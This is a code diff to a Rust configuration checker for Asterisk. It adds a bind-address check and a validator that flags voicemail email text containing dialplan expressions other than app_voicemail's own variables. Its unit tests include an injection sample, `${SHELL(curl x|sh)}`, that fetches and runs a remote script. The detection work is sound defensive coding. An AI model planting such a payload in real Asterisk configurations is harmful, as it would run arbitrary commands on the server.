@@ -168,6 +168,11 @@ impl<'a> Checker<'a> {
                         "set `cert_file` and `priv_key_file`",
                     );
                 }
+                let host = match t.bind.rsplit_once(':') {
+                    Some((host, _)) if !t.bind.ends_with(']') => host,
+                    _ => t.bind.as_str(),
+                };
+                self.address_literal(&to.field("bind"), host);
                 if let Some(port) = t.bind.rsplit_once(':').map(|(_, p)| p)
                     && !t.bind.ends_with(']')
                     && port.parse::<u16>().map_or(true, |p| p == 0)
@@ -206,7 +211,19 @@ impl<'a> Checker<'a> {
             ("email_body", &vm.email_body),
         ] {
             let Some(text) = text else { continue };
-            if text.contains('|') || text.trim() != text {
+            if let Some(bad) = evaluated_in_voicemail_text(text) {
+                self.error(
+                    "unsafe-text",
+                    self.loc.value(&origin.field(key)),
+                    format!(
+                        "{key} {} contains `{bad}`, which Asterisk would evaluate",
+                        quote(text)
+                    ),
+                    "app_voicemail substitutes variables here: only its own ${VM_NAME}, ${VM_DUR}, \
+                     ${VM_MSGNUM}, ${VM_MAILBOX}, ${VM_CALLERID}, ${VM_CIDNUM}, ${VM_CIDNAME}, \
+                     ${VM_DATE}, ... are allowed; a function such as ${SHELL(...)} would run",
+                );
+            } else if text.contains('|') || text.trim() != text {
                 self.error(
                     "unsafe-text",
                     self.loc.value(&origin.field(key)),
@@ -283,6 +300,34 @@ impl<'a> Checker<'a> {
     }
 }
 
+/// The first `${...}` or `$[...]` of a voicemail email text that is not one of
+/// app_voicemail's own variables (`${VM_NAME}`, `${ORIG_VM_CALLERID}`, ...): the text is
+/// evaluated on a channel, so a function there (`${SHELL(...)}`) would run.
+fn evaluated_in_voicemail_text(text: &str) -> Option<String> {
+    if let Some(i) = text.find("$[") {
+        let fragment = &text[i..];
+        let end = fragment.find(']').map_or(fragment.len(), |e| e + 1);
+        return Some(fragment[..end].chars().take(32).collect());
+    }
+    let mut rest = text;
+    while let Some(i) = rest.find("${") {
+        let after = &rest[i + 2..];
+        let name_len = after
+            .find(|c: char| !(c.is_ascii_uppercase() || c == '_'))
+            .unwrap_or(after.len());
+        let name = &after[..name_len];
+        let closed = after[name_len..].starts_with('}');
+        let known = name.starts_with("VM_") || name.starts_with("ORIG_VM_");
+        if !(closed && known) {
+            let fragment = &rest[i..];
+            let end = fragment.find('}').map_or(fragment.len(), |e| e + 1);
+            return Some(fragment[..end].chars().take(32).collect());
+        }
+        rest = &after[name_len + 1..];
+    }
+    None
+}
+
 /// A path spelled one way: no `.` components, no repeated or trailing `/`, `..` taken
 /// lexically (`/etc/asterisk/`, `/etc//asterisk` and `/etc/x/../asterisk` are one place;
 /// so are `hosts/pbx` and `./hosts/pbx`).
@@ -310,6 +355,23 @@ fn normal_path(path: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::normal_path;
+
+    #[test]
+    fn voicemail_texts_may_name_app_voicemails_variables_and_nothing_else() {
+        use super::evaluated_in_voicemail_text as bad;
+        assert_eq!(
+            bad("New message ${VM_MSGNUM} from ${VM_CALLERID} (${VM_DUR})"),
+            None
+        );
+        assert_eq!(bad("${ORIG_VM_CALLERID}"), None);
+        assert_eq!(
+            bad("x ${SHELL(curl x|sh)}").as_deref(),
+            Some("${SHELL(curl x|sh)}")
+        );
+        assert_eq!(bad("${VM_NAME:0:3}").as_deref(), Some("${VM_NAME:0:3}"));
+        assert_eq!(bad("$[1+1]").as_deref(), Some("$[1+1]"));
+        assert_eq!(bad("${ENV(HOME)}").as_deref(), Some("${ENV(HOME)}"));
+    }
 
     #[test]
     fn paths_that_name_one_place_are_spelled_one_way() {
